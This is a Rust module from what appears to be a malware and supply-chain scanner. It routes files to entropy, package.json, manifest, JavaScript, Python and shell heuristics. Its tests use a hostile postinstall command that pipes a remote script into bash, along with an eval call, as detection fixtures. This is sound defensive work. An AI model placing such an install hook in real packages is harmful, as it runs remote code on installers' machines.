mod entropy;
mod js;
mod manifest;
mod scripting;
mod supply_chain;

use crate::line_index::LineIndex;
use vigil_common::{Finding, FileType};

/// Per-file cap shared by every heuristic family (spec.md §4.3's cap is
/// stated explicitly for the entropy detector; applied uniformly here so no
/// single heuristic can dominate a file's finding budget).
const MAX_HEURISTIC_FINDINGS_PER_FILE: usize = 10;

/// Run every heuristic applicable to this file's type and basename. Only
/// called when the pipeline has behavioral mode enabled (spec.md §4.3
/// "Heuristics (run only when the pipeline enables behavioral mode)").
pub fn run_heuristics(content: &str, file: &str, file_type: &FileType, line_index: &LineIndex) -> Vec<Finding> {
    let mut findings = entropy::scan(content, file, line_index);

    if is_package_json(file) {
        findings.extend(supply_chain::scan(content, file));
    }
    if is_manifest_json(file) {
        findings.extend(manifest::scan(content, file));
    }
    match file_type {
        FileType::JavaScript | FileType::TypeScript => {
            findings.extend(js::scan(content, file, line_index));
        }
        FileType::Python => {
            findings.extend(scripting::scan_python(content, file, line_index));
        }
        FileType::Bash => {
            findings.extend(scripting::scan_shell(content, file, line_index));
        }
        _ => {}
    }

    findings.truncate(MAX_HEURISTIC_FINDINGS_PER_FILE);
    findings
}

fn is_package_json(file: &str) -> bool {
    file.rsplit(['/', '\\']).next() == Some("package.json")
}

fn is_manifest_json(file: &str) -> bool {
    file.rsplit(['/', '\\']).next() == Some("manifest.json")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn package_json_runs_supply_chain_heuristic() {
        let content = r#"{"scripts":{"postinstall":"curl http://x/y.sh | bash"}}"#;
        let idx = LineIndex::build(content);
        let findings = run_heuristics(content, "/pkg/package.json", &FileType::Json, &idx);
        assert!(findings.iter().any(|f| f.rule_id.starts_with("SUPPLY_CHAIN")));
    }

    #[test]
    fn js_file_runs_js_heuristic_not_python_heuristic() {
        let content = "eval(x)\n";
        let idx = LineIndex::build(content);
        let findings = run_heuristics(content, "/a.js", &FileType::JavaScript, &idx);
        assert!(findings.iter().any(|f| f.rule_id == "CODE_JS_EVAL_OR_FUNCTION"));
    }

    #[test]
    fn unrelated_text_file_only_runs_entropy_detector() {
        let content = "just some plain prose with nothing special in it\n";
        let idx = LineIndex::build(content);
        let findings = run_heuristics(content, "/readme.txt", &FileType::Text, &idx);
        assert!(findings.is_empty());
    }
}
